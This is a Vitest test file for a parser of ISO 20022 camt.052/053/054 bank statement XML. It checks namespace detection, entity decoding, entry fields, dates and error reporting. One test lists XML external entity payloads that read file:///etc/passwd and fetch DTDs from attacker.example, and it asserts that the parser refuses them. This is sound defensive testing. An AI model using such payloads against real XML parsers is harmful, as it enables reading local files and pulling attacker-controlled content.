import { describe, expect, it } from 'vitest'
import { ApiError } from '../../http/errors.js'
import { parseCamt } from './camt-parser.js'
import { MAX_XML_TOKEN_CHARS } from './statement.limits.js'

const NS = 'urn:iso:std:iso:20022:tech:xsd'

/** A one-entry message of the given namespace; `entry` replaces the default entry. */
function message(namespace: string, options: { root?: string; item?: string; entry?: string; prefix?: string } = {}): string {
  const p = options.prefix ? `${options.prefix}:` : ''
  const tag = (name: string, content: string) => `<${p}${name}>${content}</${p}${name}>`
  const entry =
    options.entry ??
    tag('Ntry', `${tag('Amt Ccy="EUR"', '0012.50').replace(`</${p}Amt Ccy="EUR">`, `</${p}Amt>`)}${tag('CdtDbtInd', 'DBIT')}${tag('Sts', 'BOOK')}${tag('BookgDt', tag('Dt', '2026-03-02'))}`)
  const body = tag(
    options.item ?? 'Stmt',
    `${tag('Id', 'S-1')}${tag('Acct', `${tag('Id', tag('IBAN', 'DE89370400440532013000'))}${tag('Ccy', 'EUR')}`)}${entry}`,
  )
  const xmlns = options.prefix ? `xmlns:${options.prefix}="${namespace}"` : `xmlns="${namespace}"`
  return `<?xml version="1.0" encoding="UTF-8"?>\n<${p}Document ${xmlns}>${tag(options.root ?? 'BkToCstmrStmt', `${tag('GrpHdr', tag('MsgId', 'M-1'))}${body}`)}</${p}Document>`
}

function rejection(xml: string): ApiError {
  try {
    parseCamt(xml)
  } catch (error) {
    if (error instanceof ApiError) return error
    throw error
  }
  throw new Error('parseCamt accepted the document')
}

describe('message detection', () => {
  it.each(['001.02', '001.03', '001.04', '001.05', '001.06', '001.07', '001.08'])('reads camt.053.%s from the Document namespace', (version) => {
    const parsed = parseCamt(message(`${NS}:camt.053.${version}`))
    expect(parsed).toMatchObject({ kind: 'camt.053', version, messageId: 'M-1' })
    expect(parsed.statements).toHaveLength(1)
    expect(parsed.statements[0]).toMatchObject({ path: 'Stmt[1]', id: 'S-1', account: { iban: 'DE89370400440532013000', currency: 'EUR' } })
  })

  it('reads camt.052 account reports and camt.054 notifications', () => {
    const report = parseCamt(message(`${NS}:camt.052.001.02`, { root: 'BkToCstmrAcctRpt', item: 'Rpt' }))
    expect(report).toMatchObject({ kind: 'camt.052', statements: [{ path: 'Rpt[1]', entries: [{ path: 'Rpt[1].Ntry[1]' }] }] })
    const notification = parseCamt(message(`${NS}:camt.054.001.08`, { root: 'BkToCstmrDbtCdtNtfctn', item: 'Ntfctn' }))
    expect(notification).toMatchObject({ kind: 'camt.054', statements: [{ path: 'Ntfctn[1]' }] })
  })

  it('reads prefixed documents, documents in an envelope beside their AppHdr, and a UTF-8 byte order mark', () => {
    expect(parseCamt(message(`${NS}:camt.053.001.04`, { prefix: 'ns2' })).statements[0]!.entries).toHaveLength(1)
    const enveloped = `<Envelope><AppHdr xmlns="urn:iso:std:iso:20022:tech:xsd:head.001.001.01"><BizMsgIdr>B-1</BizMsgIdr></AppHdr>${message(`${NS}:camt.053.001.08`).replace(/^<\?xml[^>]*>\n/, '')}</Envelope>`
    expect(parseCamt(enveloped)).toMatchObject({ kind: 'camt.053', version: '001.08' })
    expect(parseCamt(`\uFEFF${message(`${NS}:camt.053.001.02`)}`).kind).toBe('camt.053')
  })

  it('rejects other messages, unknown versions, a missing namespace and a body that does not match its namespace', () => {
    expect(rejection(message(`${NS}:pain.001.001.03`, { root: 'CstmrCdtTrfInitn' })).message).toContain('pain.001.001.03 (Document/CstmrCdtTrfInitn)')
    expect(rejection(message(`${NS}:camt.053.001.09`)).message).toContain('camt.053.001.09')
    expect(rejection(message('urn:example:statement')).message).toContain('no ISO 20022 namespace')
    const mismatch = rejection(message(`${NS}:camt.053.001.02`, { root: 'BkToCstmrAcctRpt' }))
    expect(mismatch.details).toEqual([expect.objectContaining({ field: 'Document.BkToCstmrAcctRpt' })])
    expect(rejection('<Report/>').details).toEqual([expect.objectContaining({ code: 'unsupported_message', field: 'Report' })])
  })

  it('refuses a DOCTYPE, whatever it declares, and expands no entity of it', () => {
    const declarations = [
      '<!DOCTYPE Document [<!ENTITY name "Expanded">]>',
      '<!DOCTYPE Document [<!ENTITY name SYSTEM "file:///etc/passwd">]>',
      '<!DOCTYPE Document [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>',
      '<!DOCTYPE Document SYSTEM "http://attacker.example/statement.dtd">',
    ]
    for (const declaration of declarations) {
      const xml = message(`${NS}:camt.053.001.08`).replace('?>\n', `?>\n${declaration}\n`).replace('<MsgId>M-1</MsgId>', '<MsgId>&name;</MsgId>')
      const error = rejection(xml)
      expect(error.status).toBe(400)
      expect(error.details).toEqual([{ code: 'doctype_not_allowed', field: 'line 2', error: 'a DOCTYPE declaration is not accepted' }])
    }
  })

  it('rejects malformed XML with the line and column of the fault', () => {
    const error = rejection('<?xml version="1.0"?>\n<Document>\n  <BkToCstmrStmt>\n  </BkToCstmrStm>\n</Document>')
    expect(error.status).toBe(400)
    expect(error.details).toEqual([{ code: 'malformed_xml', field: 'line 4, column 3', error: expect.stringContaining("closing tag 'BkToCstmrStmt'") }])
  })
})

describe('entries', () => {
  const v08 = `${NS}:camt.053.001.08`

  it('keeps values as the text the bank wrote and decodes entities', () => {
    const [entry] = parseCamt(message(v08)).statements[0]!.entries
    expect(entry).toMatchObject({ amount: { value: '0012.50', currency: 'EUR' }, creditDebit: 'DBIT', status: 'BOOK', bookingDate: '2026-03-02', reversal: false })
    const named = parseCamt(
      message(v08, { entry: '<Ntry><Sts><Cd>BOOK</Cd></Sts><NtryDtls><TxDtls><RltdPties><Dbtr><Pty><Nm>Fish &amp; Chips &#214;y</Nm></Pty></Dbtr></RltdPties></TxDtls></NtryDtls></Ntry>' }),
    )
    expect(named.statements[0]!.entries[0]!.details[0]!.debtor).toEqual({ name: 'Fish & Chips Öy' })
  })

  it("decodes XML's five predefined entities and numeric character references, and no other entity", () => {
    const named = (name: string) => message(`${NS}:camt.053.001.08`, { entry: `<Ntry><Sts><Cd>BOOK</Cd></Sts><AddtlNtryInf>${name}</AddtlNtryInf></Ntry>` })
    const [entry] = parseCamt(named('&lt;&gt;&amp;&apos;&quot; &#xE4;&#228;&#x1F4B6;')).statements[0]!.entries
    expect(entry!.additionalInfo).toBe(`<>&'" ää\u{1F4B6}`)
    expect(rejection(named('&nbsp;')).details).toEqual([expect.objectContaining({ code: 'malformed_xml', error: 'undefined entity' })])
  })

  it('refuses a text longer than the parser reads at once (413)', () => {
    const error = rejection(message(`${NS}:camt.053.001.08`, { entry: `<Ntry><AddtlNtryInf>${'x'.repeat(MAX_XML_TOKEN_CHARS + 1)}</AddtlNtryInf></Ntry>` }))
    expect(error.status).toBe(413)
    expect(error.message).toContain('a single text, tag or comment runs past 1 MiB')
  })

  it('reads the .02 shapes: Sts text, Dbtr/Nm, BIC, AmtDtls/TxAmt', () => {
    const entry = `<Ntry><Amt Ccy="EUR">10.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><Sts>BOOK</Sts><BookgDt><DtTm>2026-03-02T23:30:00+01:00</DtTm></BookgDt><ValDt><Dt>2026-03-03</Dt></ValDt>
      <NtryDtls><TxDtls><Refs><EndToEndId>NOTPROVIDED</EndToEndId><MndtId>M-7</MndtId></Refs><AmtDtls><TxAmt><Amt Ccy="EUR">10.00</Amt></TxAmt></AmtDtls>
      <RltdPties><Dbtr><Nm>Payer</Nm></Dbtr><DbtrAcct><Id><IBAN>DE89370400440532013000</IBAN></Id></DbtrAcct></RltdPties><RltdAgts><DbtrAgt><FinInstnId><BIC>COBADEFFXXX</BIC></FinInstnId></DbtrAgt></RltdAgts>
      <RmtInf><Ustrd>line one</Ustrd><Ustrd>line two</Ustrd></RmtInf></TxDtls></NtryDtls></Ntry>`
    const [parsed] = parseCamt(message(`${NS}:camt.053.001.02`, { entry })).statements[0]!.entries
    expect(parsed).toMatchObject({ status: 'BOOK', bookingDate: '2026-03-02', valueDate: '2026-03-03' })
    expect(parsed!.details).toEqual([
      {
        path: 'Stmt[1].Ntry[1].NtryDtls.TxDtls[1]',
        amount: { value: '10.00', currency: 'EUR' },
        mandateId: 'M-7',
        debtor: { name: 'Payer', iban: 'DE89370400440532013000', bic: 'COBADEFFXXX' },
        unstructured: ['line one', 'line two'],
        structuredReferences: [],
      },
    ])
  })

  it('reads the .08 shapes: Sts/Cd, Dbtr/Pty/Nm, BICFI, TxDtls/Amt with its CdtDbtInd, RtrInf, a proprietary-only code', () => {
    const entry = `<Ntry><NtryRef>7</NtryRef><Amt Ccy="SEK">5.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><RvslInd>true</RvslInd><Sts><Cd>BOOK</Cd></Sts><BkTxCd><Prtry><Cd>RETUR</Cd></Prtry></BkTxCd>
      <NtryDtls><TxDtls><Amt Ccy="SEK">5.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><RltdPties><Cdtr><Pty><Nm>Payee AB</Nm></Pty></Cdtr><CdtrAcct><Id><Othr><Id>5402-9681</Id></Othr></Id></CdtrAcct></RltdPties>
      <RltdAgts><CdtrAgt><FinInstnId><BICFI>ESSESESSXXX</BICFI></FinInstnId></CdtrAgt></RltdAgts><RmtInf><Strd><CdtrRefInf><Ref>RF18539007547034</Ref></CdtrRefInf></Strd></RmtInf>
      <RtrInf><Rsn><Cd>AC04</Cd></Rsn><AddtlInf>Closed</AddtlInf></RtrInf></TxDtls></NtryDtls><AddtlNtryInf>RETURN</AddtlNtryInf></Ntry>`
    const [parsed] = parseCamt(message(v08, { entry })).statements[0]!.entries
    expect(parsed).toMatchObject({
      entryReference: '7',
      reversal: true,
      bankTransactionCode: { proprietary: { code: 'RETUR' } },
      additionalInfo: 'RETURN',
      details: [
        {
          amount: { value: '5.00', currency: 'SEK' },
          creditDebit: 'CRDT',
          creditor: { name: 'Payee AB', otherAccountId: '5402-9681', bic: 'ESSESESSXXX' },
          structuredReferences: ['RF18539007547034'],
          returnReason: { code: 'AC04', additionalInfo: 'Closed' },
        },
      ],
    })
    expect(parsed!.bankTransactionCode!.domain).toBeUndefined()
  })

  it('numbers transaction details of several NtryDtls groups per group, and reads the batch id', () => {
    const details = '<TxDtls><Refs><EndToEndId>A</EndToEndId></Refs></TxDtls>'
    const entry = `<Ntry><Sts>BOOK</Sts><NtryDtls><Btch><PmtInfId>RUN-1</PmtInfId></Btch>${details}${details}</NtryDtls><NtryDtls>${details}</NtryDtls></Ntry>`
    const [parsed] = parseCamt(message(v08, { entry })).statements[0]!.entries
    expect(parsed!.batchPaymentInformationId).toBe('RUN-1')
    expect(parsed!.details.map((detail) => detail.path)).toEqual([
      'Stmt[1].Ntry[1].NtryDtls[1].TxDtls[1]',
      'Stmt[1].Ntry[1].NtryDtls[1].TxDtls[2]',
      'Stmt[1].Ntry[1].NtryDtls[2].TxDtls[1]',
    ])
  })

  it('reads dates as the local date written: an xs:date with its time zone, the date of a date-time with offset and fractions', () => {
    const dated = (booking: string, value: string) => `<Ntry><Sts>BOOK</Sts><BookgDt>${booking}</BookgDt><ValDt>${value}</ValDt></Ntry>`
    const dates = [
      dated('<Dt>2017-04-01+02:00</Dt>', '<Dt>2017-04-01Z</Dt>'),
      dated('<Dt>2017-04-01-05:00</Dt>', '<DtTm>2017-04-01T23:59:59.999-05:00</DtTm>'),
      dated('<DtTm>2017-04-01T00:30:00.25+14:00</DtTm>', '<DtTm>2017-04-01T12:00:00Z</DtTm>'),
    ]
    const entries = parseCamt(message(v08, { entry: dates.join('') })).statements[0]!.entries
    expect(entries.map((entry) => [entry.bookingDate, entry.valueDate])).toEqual(Array.from({ length: 3 }, () => ['2017-04-01', '2017-04-01']))
    // What is no xs:date stays as written, for the rules to quote.
    const [odd] = parseCamt(message(v08, { entry: dated('<Dt>2017-04-01+2</Dt>', '<Dt>01.04.2017</Dt>') })).statements[0]!.entries
    expect([odd!.bookingDate, odd!.valueDate]).toEqual(['2017-04-01+2', '01.04.2017'])
  })

  it('locates nodes by line and column', () => {
    const xml = message(v08).replace('<Ntry>', '\n\n   <Ntry>')
    const parsed = parseCamt(xml)
    expect(parsed.lineOf(parsed.statements[0]!.offset)).toEqual({ line: 2, column: expect.any(Number) })
    // An entry is located by its content, which starts right after <Ntry>.
    expect(parsed.lineOf(parsed.statements[0]!.entries[0]!.offset)).toEqual({ line: 4, column: 10 })
    expect(parsed.lineOf(undefined)).toBeUndefined()
  })
})

describe('statement heads', () => {
  const v04 = `${NS}:camt.053.001.04`
  const balance = '<Bal><Tp><CdOrPrtry><Cd>OPBD</Cd></CdOrPrtry></Tp><Amt Ccy="EUR">1.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><Dt><Dt>2026-03-02</Dt></Dt></Bal>'
  const entry = '<Ntry><Sts>BOOK</Sts></Ntry>'
  /** A statement of the given elements, in the order given. */
  const document = (...elements: string[]) =>
    `<Document xmlns="${v04}"><BkToCstmrStmt><GrpHdr><MsgId>M</MsgId></GrpHdr><Stmt>${elements.join('')}</Stmt></BkToCstmrStmt></Document>`
  const account = '<Acct><Id><Othr><Id>85-123456-7</Id></Othr></Id><Ccy>CHF</Ccy></Acct>'

  it('reads the creation date, the period and an account named by Othr/Id', () => {
    const [statement] = parseCamt(
      document('<Id>S</Id><CreDtTm>2026-03-31T05:42:17.613+02:00</CreDtTm><FrToDt><FrDtTm>2026-03-30T00:00:00+02:00</FrDtTm><ToDtTm>2026-03-30T23:59:59.999+02:00</ToDtTm></FrToDt>', account),
    ).statements
    expect(statement).toMatchObject({ id: 'S', creationDate: '2026-03-31', period: { from: '2026-03-30', to: '2026-03-30' }, account: { otherId: '85-123456-7', currency: 'CHF' } })
  })

  it('takes head elements that come after the balances, handing the balances on after the head', () => {
    const parsed = parseCamt(document('<Id>S</Id>', balance, '<ElctrncSeqNb>7</ElctrncSeqNb>', account, balance, entry))
    expect(parsed.statements[0]).toMatchObject({ id: 'S', electronicSequenceNumber: '7', account: { otherId: '85-123456-7' } })
    expect(parsed.statements[0]!.balances.map((bal) => bal.path)).toEqual(['Stmt[1].Bal[1]', 'Stmt[1].Bal[2]'])
    expect(parseCamt(document(balance, '<Id>S</Id>', account)).statements[0]).toMatchObject({ id: 'S', balances: [{ code: 'OPBD' }] })
  })

  it('refuses a head element after the first entry, which was checked against the account as it was read', () => {
    const error = rejection(document('<Id>S</Id>', entry, account))
    expect(error.details).toEqual([expect.objectContaining({ code: 'invalid_order', field: 'Stmt[1].Acct' })])
  })
})
